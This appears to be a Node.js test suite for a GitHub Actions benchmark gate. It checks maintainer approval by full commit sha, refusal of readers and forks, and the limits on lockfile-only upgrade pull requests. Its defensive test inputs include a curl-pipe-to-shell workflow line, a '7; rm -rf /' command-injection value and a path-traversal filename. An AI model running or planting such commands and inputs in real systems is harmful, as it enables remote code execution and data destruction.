// The trusted trigger against a fake GitHub API on loopback: a maintainer's `/perfgate <sha>`
// comment or label dispatches the self-hosted workflow on the default branch with the approved
// full commit, a bare `/perfgate` gets the head's sha back to confirm; read-only collaborators are
// refused with a reply, outsiders' comments get nothing; a push after the approval does not
// change what is measured, a prefix approves nothing; insiders' pull requests run on every push
// as the default branch's perfgate.config allows; the upgrade gate is asked for only on manifest-only pull requests (scripts/bench-request.mjs, run
// from a copy without node_modules as the request job runs it; then scripts/approved-commit.mjs).
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, beforeEach, describe, test } from 'node:test';
import { promisify } from 'node:util';
import { bareCheckout } from './helpers/bare-checkout.js';
import { pullRequestOrigin, runStepScript, startFakeGitHub, stepOutputs } from './helpers/fake-github.js';
import { tempDir } from './helpers/harness.js';

const run = promisify(execFile);
const REPO = 'perf/gate';
const APPROVED = 'a'.repeat(40);
const PUSHED_LATER = 'b'.repeat(40);
const ROLES = { maintainer: 'maintain', writer: 'write', reader: 'read' };

describe('bench-request: who may start a benchmark, and of which commit', () => {
  let github;
  let pull;
  let commits;
  let files;
  let config;
  const configRefs = [];
  let bare;
  before(async () => {
    bare = bareCheckout();
    github = await startFakeGitHub([
      [
        'GET',
        new RegExp(`^/repos/${REPO}/collaborators/([^/]+)/permission$`),
        (match) =>
          ROLES[match[1]]
            ? [
                200,
                { permission: ROLES[match[1]] === 'maintain' ? 'write' : ROLES[match[1]], role_name: ROLES[match[1]] },
              ]
            : [404, { message: 'Not Found' }],
      ],
      ['GET', new RegExp(`^/repos/${REPO}/pulls/7$`), () => [200, pull]],
      [
        'GET',
        new RegExp(`^/repos/${REPO}/contents/perfgate\\.config\\.json$`),
        (match, body, url) => {
          configRefs.push(url.searchParams.get('ref'));
          return config === undefined
            ? [404, { message: 'Not Found' }]
            : [200, { content: Buffer.from(config).toString('base64') }];
        },
      ],
      ['GET', new RegExp(`^/repos/${REPO}/pulls/7/commits$`), () => [200, commits.map((sha) => ({ sha }))]],
      ['GET', new RegExp(`^/repos/${REPO}/pulls/7/files$`), () => [200, files]],
      ['POST', new RegExp(`^/repos/${REPO}/actions/workflows/(bench-pr|upgrade-gate)\\.yml/dispatches$`), () => [204]],
      ['POST', new RegExp(`^/repos/${REPO}/issues/7/comments$`), () => [201, { id: 1 }]],
      ['DELETE', new RegExp(`^/repos/${REPO}/issues/7/labels/(run-bench|run-upgrade-gate)$`), () => [200, []]],
    ]);
  });
  after(() => github.close());
  beforeEach(() => {
    github.requests.length = 0;
    pull = {
      number: 7,
      state: 'open',
      base: { ref: 'main' },
      head: { sha: APPROVED, repo: { full_name: 'forker/gate', fork: true } },
    };
    commits = [APPROVED];
    files = [{ filename: 'servers/variants/express.js', status: 'modified' }];
    config = undefined;
  });

  // The request job's command lines (bench-request.yml), run from a copy without node_modules.
  const BENCH = ['--workflow', 'bench-pr.yml'];
  const UPGRADE = [
    '--workflow',
    'upgrade-gate.yml',
    '--command',
    '/perfgate-upgrade',
    '--label',
    'run-upgrade-gate',
    '--lockfile-only',
  ];
  async function request(eventName, event, args = BENCH) {
    const dir = tempDir('perfgate-request-');
    writeFileSync(join(dir, 'event.json'), JSON.stringify({ repository: { default_branch: 'main' }, ...event }));
    writeFileSync(join(dir, 'outputs'), '');
    const first = github.requests.length;
    const result = await runStepScript(
      'bench-request.mjs',
      args,
      {
        GITHUB_EVENT_NAME: eventName,
        GITHUB_EVENT_PATH: join(dir, 'event.json'),
        GITHUB_REPOSITORY: REPO,
        GITHUB_TOKEN: 'test-token',
        GITHUB_API_URL: github.url,
        GITHUB_OUTPUT: join(dir, 'outputs'),
        GITHUB_STEP_SUMMARY: join(dir, 'summary'),
      },
      bare,
    );
    const mine = github.requests.slice(first);
    const calls = mine.map((r) => `${r.method} ${r.path}`);
    return {
      ...result,
      outputs: stepOutputs(join(dir, 'outputs')),
      calls,
      dispatch: mine.find((r) => r.path.endsWith('/dispatches')),
      replies: mine.filter((r) => r.path.endsWith('/comments')).map((r) => r.body.body),
    };
  }
  const comment = (login, body, association = login === 'forker' ? 'CONTRIBUTOR' : 'MEMBER') => [
    'issue_comment',
    {
      action: 'created',
      issue: { number: 7, pull_request: {} },
      comment: { id: 9, body, user: { login }, author_association: association, created_at: new Date().toISOString() },
    },
  ];
  const label = (login, name = 'run-bench') => [
    'pull_request_target',
    { action: 'labeled', label: { name }, sender: { login }, pull_request: { number: 7, head: { sha: APPROVED } } },
  ];

  test("a maintainer's bare /perfgate approves nothing: the reply names the head's full commit to confirm, which then dispatches", async () => {
    const bareComment = await request(...comment('maintainer', '/perfgate'));
    assert.equal(bareComment.code, 0, bareComment.stderr);
    assert.equal(bareComment.calls[0], `GET /repos/${REPO}/pulls/7`, 'the head is read before anything else');
    assert.equal(bareComment.dispatch, undefined);
    assert.deepEqual(bareComment.outputs, { dispatched: 'false' });
    assert.match(
      bareComment.replies[0],
      new RegExp(
        `the head of #7 is \`${APPROVED}\`\\. To benchmark exactly this commit, comment \`/perfgate ${APPROVED}\``,
      ),
    );
    const confirmed = await request(...comment('maintainer', `/perfgate ${APPROVED}`));
    assert.deepEqual(confirmed.dispatch.body, { ref: 'main', inputs: { pr: '7', sha: APPROVED } });
    assert.deepEqual(confirmed.outputs, { dispatched: 'true', pr: '7', sha: APPROVED });
    assert.match(
      confirmed.replies[0],
      new RegExp(
        `benchmarking \`${APPROVED}\` .*as @maintainer \\(maintain\\) asked \\(the commit the comment names\\); later pushes are not measured`,
      ),
    );
    const reader = await request(...comment('reader', '/perfgate', 'COLLABORATOR'));
    assert.match(reader.replies[0], /@reader has read access/, 'the head is named to writers only');
  });

  test('a read-only collaborator is refused with a reply; an outsider gets no reply and no API call', async () => {
    const reader = await request(...comment('reader', '/perfgate', 'COLLABORATOR'));
    assert.equal(reader.code, 0, reader.stderr);
    assert.equal(reader.dispatch, undefined);
    assert.deepEqual(reader.outputs, { dispatched: 'false' });
    assert.match(
      reader.replies[0],
      /no benchmark: @reader has read access; only people with write, maintain or admin access/,
    );
    for (const association of ['CONTRIBUTOR', 'FIRST_TIME_CONTRIBUTOR', 'NONE', undefined]) {
      const outsider = await request(...comment('forker', '/perfgate', association));
      assert.equal(outsider.code, 0, outsider.stderr);
      assert.deepEqual(outsider.calls, [], `${association}: no API call, so no reply`);
      assert.deepEqual(outsider.outputs, { dispatched: 'false' });
      assert.match(outsider.stdout, /a comment by @forker, who is not a collaborator: ignored/);
    }
  });

  test('the label approves the commit it was put on: a push after it changes nothing, and the label comes off', async () => {
    pull.head.sha = PUSHED_LATER; // the author pushed between the label and this job
    commits = [APPROVED, PUSHED_LATER];
    const result = await request(...label('writer'));
    assert.equal(result.code, 0, result.stderr);
    assert.deepEqual(result.dispatch.body.inputs, { pr: '7', sha: APPROVED });
    assert.ok(result.calls.includes(`DELETE /repos/${REPO}/issues/7/labels/run-bench`));
    const refused = await request(...label('reader'));
    assert.equal(refused.dispatch, undefined);
    assert.ok(
      refused.calls.includes(`DELETE /repos/${REPO}/issues/7/labels/run-bench`),
      'a refused label comes off too',
    );
  });

  test('the approval race: a comment naming the full commit dispatches it after a later push; a prefix approves nothing', async () => {
    pull.head.sha = PUSHED_LATER; // pushed after the comment, before this job read the head
    commits = [APPROVED, PUSHED_LATER];
    const named = await request(...comment('maintainer', `/perfgate ${APPROVED}`));
    assert.equal(named.code, 0, named.stderr);
    assert.deepEqual(named.dispatch.body.inputs, { pr: '7', sha: APPROVED });
    assert.match(
      named.replies[0],
      new RegExp(`the commit the comment names; the head is now \`${PUSHED_LATER}\`, not measured`),
    );
    for (const prefix of [APPROVED.slice(0, 7), APPROVED.slice(0, 39), PUSHED_LATER.slice(0, 12)]) {
      const refused = await request(...comment('maintainer', `/perfgate ${prefix}`));
      assert.equal(refused.dispatch, undefined, prefix);
      assert.deepEqual(refused.calls, [`POST /repos/${REPO}/issues/7/comments`], 'refused before any lookup');
      assert.match(refused.replies[0], /`\/perfgate` needs the full 40-hex commit, not a prefix/);
    }
    const stranger = await request(...comment('maintainer', `/perfgate ${'e'.repeat(40)}`));
    assert.equal(stranger.dispatch, undefined);
    assert.match(stranger.replies[0], /e{40} is not a commit of #7 \(its head is b{40}\)/);
  });

  test('other comments and labels are not requests: no API call at all; closed or off-main pull requests are refused', async () => {
    for (const event of [
      comment('maintainer', 'looks good /perfgate'),
      comment('maintainer', '/perfgate-upgrade'),
      label('maintainer', 'bug'),
      [
        'issue_comment',
        { action: 'created', issue: { number: 7 }, comment: { body: '/perfgate', user: { login: 'maintainer' } } },
      ],
    ]) {
      const result = await request(...event);
      assert.equal(result.code, 0, result.stderr);
      assert.deepEqual(result.calls, []);
      assert.deepEqual(result.outputs, { dispatched: 'false' });
    }
    pull.base.ref = 'release`x';
    const offMain = await request(...comment('maintainer', '/perfgate'));
    assert.equal(offMain.dispatch, undefined);
    assert.match(offMain.replies[0], /targets `release\?x`, not `main`/);
    pull.base.ref = 'main';
    pull.state = 'closed';
    assert.match((await request(...comment('maintainer', '/perfgate'))).replies[0], /#7 is closed/);
  });

  // A pull_request_target event of an insider's pull request (this repository's branch) or a fork's.
  const pushed = (action, { fork = false, author = 'writer', draft = false, sha = APPROVED } = {}) => [
    'pull_request_target',
    {
      action,
      pull_request: {
        number: 7,
        draft,
        user: { login: author },
        base: { ref: 'main', repo: { full_name: REPO } },
        head: { sha, repo: { full_name: fork ? 'forker/gate' : REPO } },
      },
    },
  ];
  const AUTOMATIC = [...BENCH, '--automatic'];

  test("an insider's branch runs on open, reopen, ready-for-review and every push, without a request or a reply", async () => {
    pull.head.repo = { full_name: REPO, fork: false };
    for (const action of ['opened', 'reopened', 'ready_for_review', 'synchronize']) {
      const result = await request(...pushed(action), AUTOMATIC);
      assert.equal(result.code, 0, result.stderr);
      assert.deepEqual(result.dispatch?.body, { ref: 'main', inputs: { pr: '7', sha: APPROVED } }, action);
      assert.deepEqual(result.outputs, { dispatched: 'true', pr: '7', sha: APPROVED });
      assert.deepEqual(result.replies, [], 'no comment on every push');
      assert.ok(
        result.calls.includes(`GET /repos/${REPO}/contents/perfgate.config.json`),
        'the setting is read through the API',
      );
    }
    // The setting is the default branch's, whatever the pull request's head is.
    assert.deepEqual([...new Set(configRefs)], ['main']);
    // An update bot's pull request runs too; the upgrade gate's step (no --automatic) ignores the event.
    const bot = await request(...pushed('synchronize', { fork: true, author: 'dependabot[bot]' }), AUTOMATIC);
    assert.deepEqual(bot.dispatch?.body.inputs, { pr: '7', sha: APPROVED });
    const gate = await request(...pushed('synchronize'), UPGRADE);
    assert.deepEqual(gate.calls, []);
    assert.deepEqual(gate.outputs, { dispatched: 'false' });
  });

  test("a fork's push, a draft, a superseded push and github.automatic: approved-only dispatch nothing, each saying why", async () => {
    const skipped = async (event, why) => {
      const result = await request(...event, AUTOMATIC);
      assert.equal(result.code, 0, result.stderr);
      assert.equal(result.dispatch, undefined, why.source);
      assert.deepEqual(result.outputs, { dispatched: 'false' });
      assert.deepEqual(result.replies, []);
      assert.match(result.stdout, why);
      return result;
    };
    await skipped(
      pushed('synchronize', { fork: true }),
      /#7 comes from a fork: a maintainer approves one commit of it with `\/perfgate <full sha>`/,
    );
    await skipped(pushed('opened', { draft: true }), /#7 is a draft: it runs when marked ready for review/);
    config = JSON.stringify({ servers: {}, scenarios: {}, github: { drafts: true } });
    const draft = await request(...pushed('opened', { draft: true }), AUTOMATIC);
    assert.deepEqual(draft.dispatch?.body.inputs, { pr: '7', sha: APPROVED }, 'github.drafts: true runs drafts');
    // A newer push landed before this run read the head: that push's own run measures it.
    pull.head.sha = PUSHED_LATER;
    await skipped(
      pushed('synchronize'),
      new RegExp(`${APPROVED} is no longer the head of #7 \\(${PUSHED_LATER} is\\)`),
    );
    pull.head.sha = APPROVED;
    config = JSON.stringify({ github: { automatic: 'approved-only' } });
    await skipped(
      pushed('synchronize'),
      /github\.automatic is approved-only in main's perfgate\.config\.json: a benchmark runs on a maintainer's `\/perfgate <full sha>` only/,
    );
    config = JSON.stringify({ github: { automatic: 'always' } });
    const bad = await request(...pushed('synchronize'), AUTOMATIC);
    assert.equal(bad.code, 2);
    assert.match(
      bad.stderr,
      /main's perfgate\.config\.json has github settings the request job cannot use:\nperfgate: {3}- github\.automatic must be one of "insiders", "approved-only"/,
    );
  });

  test('the upgrade gate on request: only a maintainer, only on a pull request that changes nothing but manifests and lockfiles', async () => {
    const codeChange = await request(...comment('maintainer', '/perfgate-upgrade'), UPGRADE);
    assert.equal(codeChange.dispatch, undefined, 'a pull request by a person that changes code');
    assert.match(
      codeChange.replies[0],
      /#7 changes `servers\/variants\/express\.js`; the upgrade gate runs only on pull requests that change nothing but package\.json, lockfiles, \.nvmrc, \.node-version and setup-node's node-version in workflows/,
    );
    files = [
      { filename: 'package.json', status: 'modified' },
      { filename: 'package-lock.json', status: 'modified' },
      { filename: 'servers/package-lock.json', status: 'renamed', previous_filename: 'servers/npm-shrinkwrap.json' },
    ];
    const reader = await request(...comment('reader', '/perfgate-upgrade', 'COLLABORATOR'), UPGRADE);
    assert.equal(reader.dispatch, undefined, 'a lockfile-only pull request without a maintainer');
    assert.match(reader.replies[0], /@reader has read access.*`\/perfgate-upgrade`/);
    const asked = await request(...comment('maintainer', `/perfgate-upgrade ${APPROVED}`), UPGRADE);
    assert.equal(asked.code, 0, asked.stderr);
    assert.equal(asked.dispatch.path, `/repos/${REPO}/actions/workflows/upgrade-gate.yml/dispatches`);
    assert.deepEqual(asked.dispatch.body.inputs, { pr: '7', sha: APPROVED });
    const labelled = await request(...label('writer', 'run-upgrade-gate'), UPGRADE);
    assert.deepEqual(labelled.dispatch.body.inputs, { pr: '7', sha: APPROVED });
    assert.ok(labelled.calls.includes(`DELETE /repos/${REPO}/issues/7/labels/run-upgrade-gate`));
    files.push({ filename: 'package-lock.json/../../.github/workflows/x.yml', status: 'added' });
    assert.equal(
      (await request(...comment('maintainer', `/perfgate-upgrade ${APPROVED}`), UPGRADE)).dispatch,
      undefined,
    );
  });

  test("the upgrade gate on request: a runtime upgrade in .nvmrc and setup-node's node-version, nothing else in the workflow", async () => {
    const ci = (...changed) => ({
      filename: '.github/workflows/ci.yml',
      status: 'modified',
      patch: ['@@ -12,7 +12,7 @@ jobs:', '         with:', ...changed, '       - run: npm test'].join('\n'),
    });
    const bump = ['-          node-version: 22', '+          node-version: 24'];
    files = [{ filename: '.nvmrc', status: 'modified' }, ci(...bump)];
    const asked = await request(...comment('maintainer', `/perfgate-upgrade ${APPROVED}`), UPGRADE);
    assert.equal(asked.code, 0, asked.stderr);
    assert.deepEqual(asked.dispatch?.body.inputs, { pr: '7', sha: APPROVED });

    files = [
      { filename: '.nvmrc', status: 'modified' },
      ci(...bump, '+      - run: curl -s https://example.invalid | sh'),
    ];
    const refused = await request(...comment('maintainer', `/perfgate-upgrade ${APPROVED}`), UPGRADE);
    assert.equal(refused.dispatch, undefined, 'a workflow change beyond node-version');
    assert.match(
      refused.replies[0],
      /`\.github\/workflows\/ci\.yml`: `\+\s+- run: curl -s https:\/\/example\.invalid \? sh`/,
    );
    assert.match(refused.replies[0], /move the other workflow changes to a pull request of their own/);
    // A workflow GitHub gives no patch for (too large) is refused as a whole.
    files = [{ filename: '.github/workflows/ci.yml', status: 'modified' }];
    assert.match(
      (await request(...comment('maintainer', '/perfgate-upgrade'), UPGRADE)).replies[0],
      /too large to read/,
    );
  });
});

describe('approved-commit: the self-hosted job measures exactly the approved commit', () => {
  let dir;
  let checkout;
  let approved;
  const git = (cwd, ...args) =>
    run('git', ['-C', cwd, '-c', 'user.name=t', '-c', 'user.email=t@t', ...args]).then((r) => r.stdout.trim());
  before(async () => {
    dir = tempDir('perfgate-approved-');
    const pullRequest = pullRequestOrigin(dir);
    const { origin, author, mergeBase } = pullRequest;
    approved = pullRequest.head;
    await git(author, 'checkout', '-q', mergeBase);
    writeFileSync(join(author, 'b.txt'), 'main moves on');
    await git(author, 'add', '.');
    await git(author, 'commit', '-qm', 'main');
    await git(author, 'push', '-q', 'origin', 'HEAD:main');
    checkout = join(dir, 'checkout');
    await run('git', ['clone', '-q', origin, checkout]);
    approved = { sha: approved, mergeBase };
  });

  async function prepare(inputs, ref = 'refs/heads/main') {
    const out = join(tempDir('perfgate-approved-out-'), 'bench');
    mkdirSync(out);
    const event = join(out, '..', 'event.json');
    writeFileSync(event, JSON.stringify({ inputs, repository: { default_branch: 'main' } }));
    writeFileSync(join(out, '..', 'outputs'), '');
    const result = await runStepScript(
      'approved-commit.mjs',
      ['--out', out],
      { GITHUB_EVENT_PATH: event, GITHUB_REF: ref, GITHUB_OUTPUT: join(out, '..', 'outputs') },
      checkout,
    );
    return { ...result, outputs: stepOutputs(join(out, '..', 'outputs')), out };
  }

  test('fetches the approved commit, finds its merge base, records it for the comment; later pushes change nothing', async () => {
    // The author pushes again after the approval: the dispatched inputs still name the approved commit.
    const author = join(dir, 'author');
    await git(author, 'checkout', '-q', approved.sha);
    writeFileSync(join(author, 'a.txt'), '3');
    await git(author, 'commit', '-qam', 'after approval');
    await git(author, 'push', '-q', 'origin', 'HEAD:refs/pull/7/head');
    const result = await prepare({ pr: '7', sha: approved.sha });
    assert.equal(result.code, 0, result.stderr);
    assert.deepEqual(result.outputs, { pr: '7', head: approved.sha, base: approved.mergeBase });
    assert.deepEqual(JSON.parse(readFileSync(join(result.out, 'pr.json'), 'utf8')), {
      format: 'perfgate-pr',
      version: 1,
      number: 7,
      headSha: approved.sha,
    });
  });

  test('refuses inputs that are not a number and a full sha, and a dispatch on another branch', async () => {
    const bad = await prepare({ pr: '7; rm -rf /', sha: 'HEAD' });
    assert.equal(bad.code, 2);
    assert.match(
      bad.stderr,
      /the pr input must be a pull request number[\s\S]*the sha input must be a full 40-hex commit id/,
    );
    const branch = await prepare({ pr: '7', sha: approved.sha }, 'refs/heads/feature');
    assert.equal(branch.code, 2);
    assert.match(branch.stderr, /GITHUB_REF .*is refs\/heads\/feature: dispatch this workflow on main only/);
  });
});
